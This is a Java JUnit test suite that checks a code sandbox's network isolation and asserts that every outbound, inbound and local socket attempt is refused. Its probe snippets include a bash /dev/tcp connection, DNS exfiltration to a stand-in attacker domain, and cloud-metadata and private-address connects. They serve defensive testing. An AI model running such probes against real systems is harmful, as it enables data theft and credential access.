package dev.ace4j.sandbox.security;

import static dev.ace4j.sandbox.security.Payloads.bash;
import static dev.ace4j.sandbox.security.Payloads.python;
import static dev.ace4j.sandbox.security.Payloads.snippet;
import static dev.ace4j.sandbox.security.Payloads.wall;
import static org.assertj.core.api.Assertions.assertThat;

import dev.ace4j.sandbox.Execution;
import dev.ace4j.sandbox.ExecutionRequest;
import dev.ace4j.sandbox.Language;
import dev.ace4j.sandbox.Sandbox;
import dev.ace4j.sandbox.Sandboxes;
import dev.ace4j.sandbox.Status;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * Network, reference/sandboxes.md §3.4 (N1–N9): seccomp refuses every socket family but {@code AF_UNIX}, and behind
 * that the sandbox has its own empty network namespace, so it reaches nothing (not the internet, not the host's
 * loopback, not the host's abstract sockets) and nothing reaches it.
 */
@Timeout(60)
class NetworkTest {
  private static Sandbox sandbox;

  @BeforeAll
  static void start() {
    sandbox = Sandboxes.create(Payloads.settings());
  }

  @AfterAll
  static void stop() {
    sandbox.close();
  }

  private static Execution run(ExecutionRequest.Builder request) {
    return sandbox.execute(request.build());
  }

  /** Python that tries {@code connect} to each address and prints {@code host:port errno-name}. */
  private static String connectEach(String addresses) {
    return """
        import errno, socket
        for host, port in %s:
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.settimeout(2)
                s.connect((host, port))
                print(host, port, 'connected')
            except OSError as e:
                print(host, port, errno.errorcode.get(e.errno, str(e)))
        """.formatted(addresses);
  }

  @Test
  @DisplayName("N1 TCP and UDP to the internet fail at once: the sockets are refused with EAFNOSUPPORT")
  void tcpAndUdpToTheInternetFailAtOnce() {
    Execution run = run(python(connectEach("[('1.1.1.1', 53), ('8.8.8.8', 443)]") + """
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b'x', ('1.1.1.1', 53))
            print('udp sent')
        except OSError as e:
            print('udp', errno.errorcode[e.errno])
        """));

    assertThat(run.stdout().text()).isEqualTo(
        "1.1.1.1 53 EAFNOSUPPORT\n8.8.8.8 443 EAFNOSUPPORT\nudp EAFNOSUPPORT\n");
  }

  @Test
  @DisplayName("N1 bash /dev/tcp cannot open a connection")
  void bashDevTcpCannotOpenAConnection() {
    Execution run = run(bash("(echo hello > /dev/tcp/1.1.1.1/53) && echo connected || echo failed\n"));

    assertThat(run.stdout().text()).isEqualTo("failed\n");
    assertThat(run.stderr().text()).contains("Address family not supported by protocol");
  }

  @Test
  @DisplayName("N1 node net.connect fails with EAFNOSUPPORT")
  void nodeNetConnectFails() {
    Execution run = run(snippet(Language.JAVASCRIPT, """
        const net = require('net');
        const socket = net.connect({host: '1.1.1.1', port: 53});
        socket.on('connect', () => { console.log('connected'); process.exit(0); });
        socket.on('error', (e) => { console.log(e.code); });
        """));

    assertThat(run.stdout().text()).isEqualTo("EAFNOSUPPORT\n");
  }

  @Test
  @DisplayName("N2 DNS lookups fail: there is no resolver to exfiltrate through")
  void dnsLookupsFail() {
    Execution run = run(python("""
        import os, socket
        for name in ('example.com', 'secret-data.attacker.example'):
            try:
                print(name, socket.getaddrinfo(name, 80))
            except socket.gaierror as e:
                print(name, 'failed')
        print('resolv.conf', os.path.exists('/etc/resolv.conf'))
        """));

    assertThat(run.stdout().text()).contains(
        "example.com failed\n", "secret-data.attacker.example failed\n", "resolv.conf False\n");
  }

  @Test
  @DisplayName("N3 a host listener on 127.0.0.1 is refused from inside")
  void aHostListenerOnLoopbackIsRefusedFromInside() throws IOException {
    try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      int port = listener.getLocalPort();
      try (Socket control = new Socket(InetAddress.getLoopbackAddress(), port);
          Socket accepted = listener.accept()) {
        assertThat(accepted.isConnected()).as("the host listener accepts host connections").isTrue();
        assertThat(control.isConnected()).isTrue();
      }

      Execution run = run(python(connectEach("[('127.0.0.1', %d), ('localhost', %d)]".formatted(port, port))));

      assertThat(run.stdout().text()).startsWith("127.0.0.1 %d EAFNOSUPPORT\n".formatted(port))
          .doesNotContain("connected");
      assertThat(nothingAccepted(listener)).isTrue();
    }
  }

  @Test
  @Timeout(180)
  @DisplayName("N10 a mutation test may open IP sockets, but they reach only its own loopback: not a host listener "
      + "on 127.0.0.1, not private or metadata addresses")
  void aMutationTestsSocketsReachOnlyItsOwnLoopback() throws IOException {
    try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      String tests = """
          import static org.junit.jupiter.api.Assertions.assertEquals;
          import static org.junit.jupiter.api.Assertions.assertThrows;

          import java.io.IOException;
          import java.net.InetSocketAddress;
          import java.net.Socket;
          import org.junit.jupiter.api.Test;

          class ProbeTest {
            @Test
            void reachesNothingOutsideItsNamespace() {
              assertEquals(1, Probe.one());
              for (String host : new String[] {"127.0.0.1", "169.254.169.254", "10.0.0.1"}) {
                assertThrows(IOException.class, () -> {
                  try (Socket socket = new Socket()) {
                    socket.connect(new InetSocketAddress(host, %d), 1000);
                  }
                }, host);
              }
            }
          }
          """.formatted(listener.getLocalPort());

      Execution run = sandbox.execute(ExecutionRequest.mutationTest(Language.JAVA,
          "public class Probe {\n  public static int one() {\n    return 1;\n  }\n}\n", tests,
          new ExecutionRequest.Mutation(1, Duration.ofSeconds(4)))
          .limits(wall(Duration.ofSeconds(120)).withCpu(Duration.ofSeconds(240)).withMemoryBytes(1024L << 20)
              .withProcesses(256)).build());

      assertThat(run.exitCode()).as(run.stdout().text() + run.stderr().text()).isZero();
      assertThat(run.file(ExecutionRequest.MUTATION_REPORT)).isPresent();
      assertThat(run.file(ExecutionRequest.MUTATION_REPORT).get().text()).contains("status='KILLED'");
      assertThat(nothingAccepted(listener)).isTrue();
    }
  }

  private static boolean nothingAccepted(ServerSocket listener) throws IOException {
    listener.setSoTimeout(200);
    try (Socket unexpected = listener.accept()) {
      return unexpected == null;
    } catch (SocketTimeoutException e) {
      return true;
    }
  }

  @Test
  @DisplayName("N4 cloud metadata and private addresses are unreachable")
  void cloudMetadataAndPrivateAddressesAreUnreachable() {
    Execution run = run(python(connectEach("[('169.254.169.254', 80), ('10.0.0.1', 80), ('192.168.1.1', 80)]")));

    assertThat(run.stdout().text()).isEqualTo(
        "169.254.169.254 80 EAFNOSUPPORT\n10.0.0.1 80 EAFNOSUPPORT\n192.168.1.1 80 EAFNOSUPPORT\n");
  }

  @Test
  @DisplayName("N5 no network at all, whether the program uses a proxy or ignores it")
  void noNetworkWhetherTheProgramUsesAProxyOrIgnoresIt() throws IOException {
    try (ServerSocket proxy = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      String proxyUrl = "http://127.0.0.1:" + proxy.getLocalPort();
      Execution run = run(python("""
          import urllib.request
          for label, handler in (('proxy', urllib.request.ProxyHandler()),
                                 ('no proxy', urllib.request.ProxyHandler({}))):
              try:
                  urllib.request.build_opener(handler).open('http://1.1.1.1/', timeout=2)
                  print(label, 'reached the internet')
              except OSError as e:
                  print(label, 'failed')
          """).environment("HTTP_PROXY", proxyUrl).environment("http_proxy", proxyUrl)
          .environment("HTTPS_PROXY", proxyUrl).environment("NO_PROXY", ""));

      assertThat(run.stdout().text()).isEqualTo("proxy failed\nno proxy failed\n");
      assertThat(nothingAccepted(proxy)).as("the host proxy port saw no connection").isTrue();
    }
  }

  @Test
  @DisplayName("N7 raw and packet sockets are refused with EAFNOSUPPORT")
  void rawAndPacketSocketsAreRefused() {
    Execution run = run(python("""
        import errno, socket
        for label, args in (('raw icmp', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                            ('packet', (socket.AF_PACKET, socket.SOCK_RAW, 0))):
            try:
                socket.socket(*args)
                print(label, 'opened')
            except OSError as e:
                print(label, errno.errorcode[e.errno])
        """));

    assertThat(run.stdout().text()).isEqualTo("raw icmp EAFNOSUPPORT\npacket EAFNOSUPPORT\n");
  }

  @Test
  @DisplayName("N8 no server can listen inside on TCP or UDP, so there is nothing for the host to reach")
  void noServerCanListenInside() {
    Execution run = run(python("""
        import errno, socket
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                socket.create_server(('0.0.0.0', 8080)) if kind == socket.SOCK_STREAM else socket.socket(type=kind)
                print(kind.name, 'listening')
            except OSError as e:
                print(kind.name, errno.errorcode[e.errno])
        """));

    assertThat(run.stdout().text()).isEqualTo("SOCK_STREAM EAFNOSUPPORT\nSOCK_DGRAM EAFNOSUPPORT\n");
  }

  @Test
  @DisplayName("N9 an abstract Unix socket of a host service is refused")
  void anAbstractUnixSocketOfAHostServiceIsRefused() throws Exception {
    try (HostAbstractSocket x11 = HostAbstractSocket.listen("/tmp/.X11-unix/X" + ProcessHandle.current().pid())) {
      assertThat(x11.reachableFromHost()).isTrue();

      Execution run = run(python("""
          import errno, socket
          s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
          try:
              s.connect('\\0%s')
              print('connected')
          except OSError as e:
              print(errno.errorcode[e.errno])
          """.formatted(x11.name())));

      assertThat(run.status()).isEqualTo(Status.OK);
      assertThat(run.stdout().text()).isEqualTo("ECONNREFUSED\n");
    }
  }
}
